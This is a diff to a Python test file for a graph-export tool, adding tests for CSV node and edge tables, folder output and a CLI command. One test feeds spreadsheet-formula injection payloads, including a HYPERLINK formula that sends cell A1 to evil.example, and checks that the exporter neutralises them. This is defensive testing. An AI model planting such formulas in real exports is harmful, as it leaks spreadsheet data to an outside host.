@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import json
 import os
 import subprocess
@@ -12,7 +13,7 @@ from rdflib import Dataset, Graph
 
 from reportgraph import export as export_module
 from reportgraph.errors import ReportgraphError
-from reportgraph.export import FORMATS, export
+from reportgraph.export import FORMATS, TABLES, export, graphml_projection
 from reportgraph.store import load_graph
 
 MINI = Path(__file__).parent / "fixtures" / "mini.trig"
@@ -135,7 +136,7 @@ def test_line_and_json_formats_are_stable(tmp_path: Path, fmt: str) -> None:
 
 
 def test_unknown_format_lists_the_formats(mini: Dataset, tmp_path: Path) -> None:
-    with pytest.raises(ReportgraphError, match="turtle, trig, nt, nquads, jsonld, graphml"):
+    with pytest.raises(ReportgraphError, match="turtle, trig, nt, nquads, jsonld, graphml, csv"):
         export(mini, "rdfxml", tmp_path / "graph.rdf")
     assert list(tmp_path.iterdir()) == []
 
@@ -147,13 +148,16 @@ def test_missing_output_folder(mini: Dataset, tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("fmt", FORMATS)
 def test_export_replaces_and_leaves_no_temp_files(mini: Dataset, tmp_path: Path, fmt: str) -> None:
-    out = tmp_path / "graph.out"
-    out.write_text("old", encoding="utf-8")
+    folder = tmp_path / "tables" if fmt == "csv" else tmp_path
+    folder.mkdir(exist_ok=True)
+    names = list(TABLES) if fmt == "csv" else ["graph.out"]
+    for name in names:
+        (folder / name).write_text("old", encoding="utf-8")
 
-    export(mini, fmt, out)
+    export(mini, fmt, folder if fmt == "csv" else folder / "graph.out")
 
-    assert out.read_text(encoding="utf-8") != "old"
-    assert [p.name for p in tmp_path.iterdir()] == ["graph.out"]
+    assert all((folder / name).read_text(encoding="utf-8") != "old" for name in names)
+    assert sorted(p.name for p in folder.iterdir()) == sorted(names)
 
 
 def test_failed_export_keeps_the_old_file(
@@ -189,3 +193,102 @@ def test_graphml_holds_a_label_with_characters_xml_forbids(tmp_path: Path) -> No
     export(ds, "graphml", out)
     back = nx.read_graphml(out)
     assert back.nodes[str(node)]["label"] == "Ann\ufffd Lee\ufffd"
+
+
+def read_table(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_csv_tables_are_the_graphml_projection(mini: Dataset, tmp_path: Path) -> None:
+    written = export(mini, "csv", tmp_path / "tables")
+
+    nodes = read_table(tmp_path / "tables" / "nodes.csv")
+    edges = read_table(tmp_path / "tables" / "edges.csv")
+    assert written == len(edges) == EDGES and len(nodes) == NODES
+    assert list(nodes[0]) == [
+        "Id", "Label", "Type", "Documents", "Date", "Evidence", "Latitude", "Longitude"
+    ]  # fmt: skip
+    assert list(edges[0]) == ["Source", "Target", "Type", "Label"]  # Gephi's names
+    by_id = {row["Id"]: row for row in nodes}
+    assert by_id[IDS + "place/strelsau"]["Latitude"] == "50.1"
+    arrest = by_id[IDS + "event/a-1"]
+    assert (arrest["Type"], arrest["Date"]) == ("Arrest", "2002-03-12")
+    assert arrest["Evidence"].startswith("Ruritanian police arrested 25")
+    assert {row["Type"] for row in edges} == {"Directed"}
+    assert not {row["Label"] for row in edges} & {"actor", "mentionedIn"}
+    assert all(row["Source"] in by_id and row["Target"] in by_id for row in edges)
+    graphml = graphml_projection(mini)
+    assert sorted((r["Source"], r["Target"], r["Label"]) for r in edges) == sorted(
+        graphml.edges(keys=True)
+    )
+    again = tmp_path / "again"
+    export(mini, "csv", again)
+    for name in TABLES:
+        assert (again / name).read_bytes() == (tmp_path / "tables" / name).read_bytes()
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    from rdflib import RDF, RDFS, Literal, URIRef
+
+    from reportgraph.ontology import GEO, RG
+
+    ds = Dataset()
+    g = ds.graph(URIRef("urn:doc"))
+    for key, label in [("a", '=HYPERLINK("http://evil.example/?"&A1,"x")'), ("b", "+1+2"),
+                       ("c", "-2+3"), ("d", "@SUM(A1)"), ("e", "\tx"), ("f", "\r=1")]:  # fmt: skip
+        g.add((URIRef(IDS + f"person/{key}"), RDF.type, RG.Person))
+        g.add((URIRef(IDS + f"person/{key}"), RDFS.label, Literal(label)))
+    place = URIRef(IDS + "place/south")
+    g.add((place, RDF.type, RG.Place))
+    g.add((place, RDFS.label, Literal("South")))
+    g.add((place, GEO.lat, Literal("-33.9")))
+
+    export(ds, "csv", tmp_path / "t")
+
+    rows = {row["Id"]: row for row in read_table(tmp_path / "t" / "nodes.csv")}
+    labels = [rows[IDS + f"person/{key}"]["Label"] for key in "abcdef"]
+    assert all(label.startswith("'") for label in labels), labels
+    assert rows[IDS + "place/south"]["Latitude"] == "-33.9"  # a number stays a number
+
+
+def test_documents_are_nodes_only_when_asked(mini: Dataset, tmp_path: Path) -> None:
+    export(mini, "graphml", tmp_path / "with.graphml", documents=True)
+    export(mini, "csv", tmp_path / "with", documents=True)
+
+    graph = nx.read_graphml(tmp_path / "with.graphml")
+    assert graph.nodes[IDS + "doc/b"]["type"] == "Document"
+    mentions = [e for e in graph.edges(data=True) if e[2]["label"] == "mentionedIn"]
+    assert mentions and all(target.startswith(IDS + "doc/") for _, target, _ in mentions)
+    rows = read_table(tmp_path / "with" / "nodes.csv")
+    assert {row["Type"] for row in rows} >= {"Document", "Country"}
+    with pytest.raises(ReportgraphError, match="only in graphml and csv"):
+        export(mini, "turtle", tmp_path / "g.ttl", documents=True)
+
+
+def test_export_csv_command(tmp_path: Path) -> None:
+    from click.testing import CliRunner
+
+    from reportgraph.cli import cli
+
+    graph = tmp_path / "graph"
+    graph.mkdir()
+    (graph / "graph.trig").write_bytes(MINI.read_bytes())
+    runner = CliRunner()
+    out = tmp_path / "tables"
+
+    result = runner.invoke(
+        cli, ["export", "--graph", str(graph), "--format", "csv", "--out", str(out)]
+    )
+
+    assert result.exit_code == 0, result.output
+    assert result.output == f"wrote {out / 'nodes.csv'}, {out / 'edges.csv'} ({EDGES} edges)\n"
+    as_file = runner.invoke(
+        cli, ["export", "--graph", str(graph), "--format", "csv", "--out", str(out / "nodes.csv")]
+    )
+    assert as_file.exit_code == 1 and "into a folder; this is a file" in as_file.output
+    as_folder = runner.invoke(
+        cli, ["export", "--graph", str(graph), "--format", "graphml", "--out", str(out)]
+    )
+    assert as_folder.exit_code == 1 and "is a folder" in as_folder.output
+    assert "Traceback" not in as_file.output + as_folder.output
